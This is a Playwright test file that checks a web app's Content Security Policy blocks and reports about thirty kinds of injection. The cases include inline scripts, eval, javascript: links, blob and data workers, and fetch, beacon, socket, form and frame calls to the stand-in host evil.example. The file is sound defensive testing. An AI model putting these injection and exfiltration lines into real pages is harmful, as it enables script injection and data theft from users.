import type { Page } from '@playwright/test'
import { expect, test } from './support/test.ts'

/** What somebody could try who got a script into the page's world, and the rule that refuses it. */
const attempts: readonly (readonly [name: string, rule: string, code: string])[] = [
  ['an inline script', 'script-src-elem', `append('script', { textContent: 'window.hit()' })`],
  ['an inline module', 'script-src-elem', `append('script', { type: 'module', textContent: 'window.hit()' })`],
  ['an event handler', 'script-src-attr', `append('div', {}, { onclick: 'window.hit()' }).click()`],
  ['an address of a script', 'script-src-elem', `append('a', { href: 'javascript:window.hit()' }).click()`],
  ['eval', 'script-src', `refused(() => (0, eval)('window.hit()'))`],
  ['new Function', 'script-src', `refused(() => new Function('window.hit()')())`],
  ['a timer with text', 'script-src', `refused(() => setTimeout('window.hit()'))`],
  ['a foreign script', 'script-src-elem', `append('script', { src: 'https://evil.example/a.js' })`],
  ['a script from data', 'script-src-elem', `append('script', { src: 'data:text/javascript,window.hit()' })`],
  ['a script from a blob', 'script-src-elem', `append('script', { src: blob('window.hit()') })`],
  ['a foreign module', 'script-src-elem', `import('https://evil.example/m.js').catch(() => {})`],
  ['a worker from a blob', 'worker-src', `refused(() => new Worker(blob('fetch("https://evil.example")')))`],
  ['a worker from data', 'worker-src', `refused(() => new Worker('data:text/javascript,1'))`],
  ['a foreign request', 'connect-src', `fetch('https://evil.example/f').catch(() => {})`],
  [
    'an old request',
    'connect-src',
    `refused(() => { const r = new XMLHttpRequest(); r.open('GET', 'https://evil.example'); r.send() })`,
  ],
  ['a beacon', 'connect-src', `navigator.sendBeacon('https://evil.example/b', 'x')`],
  ['a socket', 'connect-src', `refused(() => new WebSocket('wss://evil.example'))`],
  ['a stream of events', 'connect-src', `refused(() => new EventSource('https://evil.example'))`],
  ['a foreign frame', 'frame-src', `append('iframe', { src: 'https://evil.example' })`],
  ['a frame from a blob', 'frame-src', `append('iframe', { src: blob('<script>top.hit()</script>', 'text/html') })`],
  ['a frame from data', 'frame-src', `append('iframe', { src: 'data:text/html,<script>top.hit()</script>' })`],
  ['a frame of its own', 'frame-src', `append('iframe', { src: location.href })`],
  [
    'a script in a frame’s text',
    'script-src-elem',
    `const frame = append('iframe', { srcdoc: '<p>text</p>' })
     frame.onload = () => {
       const inside = frame.contentDocument
       inside.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
       inside.body.append(Object.assign(inside.createElement('script'), { textContent: 'top.hit()' }))
     }`,
  ],
  ['an object', 'object-src', `append('object', { data: 'https://evil.example/o', type: 'text/html' })`],
  ['a plugin', 'object-src', `append('embed', { src: 'https://evil.example/e', type: 'text/html' })`],
  [
    'a foreign style sheet',
    'style-src-elem',
    `append('link', { rel: 'stylesheet', href: 'https://evil.example/s.css' })`,
  ],
  ['a foreign font', 'font-src', `new FontFace('x', 'url(https://evil.example/f.woff2)').load().catch(() => {})`],
  ['a picture without https', 'img-src', `append('img', { src: 'http://evil.example/i.png' })`],
  ['a film without https', 'media-src', `append('video', { src: 'http://evil.example/v.mp4', preload: 'auto' })`],
  ['another base', 'base-uri', `append('base', { href: 'https://evil.example/' })`],
  ['a form', 'form-action', `append('form', { action: 'https://evil.example/', method: 'post' }).submit()`],
]

test('each way to run, load or send what is not the page’s own is refused and reported', async ({
  page,
  designer,
  faults,
}) => {
  test.slow()
  faults.expect(/Content Security Policy|Executing inline|: https?:\/\/evil\.example|: (blob|data):/)
  await designer.ready()
  const home = page.url()
  const failures: string[] = []
  page.on('requestfailed', (request) => {
    if (request.url().includes('evil.example')) failures.push(request.failure()?.errorText ?? 'no reason given')
  })
  const results = await attemptAll(page)
  expect(results).toEqual(attempts.map(([name, rule]) => ({ name, rule })))
  expect(await page.evaluate(() => Reflect.get(window, 'hits'))).toBe(0)
  expect(page.url()).toBe(home)
  // A request that had left would fail for want of such a host.
  expect(failures.filter((reason) => !/csp|blocked/i.test(reason))).toEqual([])
})

test('the app itself meets no rule of the policy on a visit', async ({ page, designer }) => {
  // Any violation is an error in the console, which fails a test by itself.
  await designer.showPage(1)
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
  const rules = policy?.split(';').map((rule) => rule.trim()) ?? []
  expect(rules).toContain("script-src 'self'")
  expect(rules).toContain("connect-src 'self'")
  expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|connect-src[^;]*https?:/)
})

/** Tries one after another, each with the rule of the first violation that is reported; 'nothing' where none is. */
async function attemptAll(page: Page) {
  await page.evaluate(() => {
    let hits = 0
    Object.defineProperty(window, 'hit', { value: () => hits++ })
    Object.defineProperty(window, 'hits', { get: () => hits })
  })
  const results: { readonly name: string; readonly rule: string }[] = []
  for (const [name, , code] of attempts) {
    const rule = await page.evaluate(`new Promise((resolve) => {
      const append = (tag, properties, attributes = {}) => {
        const element = Object.assign(document.createElement(tag), properties)
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
        document.body.append(element)
        return element
      }
      const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))
      const refused = (run) => { try { run() } catch {} }
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
      // In a task of its own, because the policy does not bind what a debugger evaluates.
      setTimeout(() => {
        ${code}
      })
      setTimeout(() => resolve('nothing'), 5000)
    })`)
    results.push({ name, rule: String(rule) })
  }
  return results
}
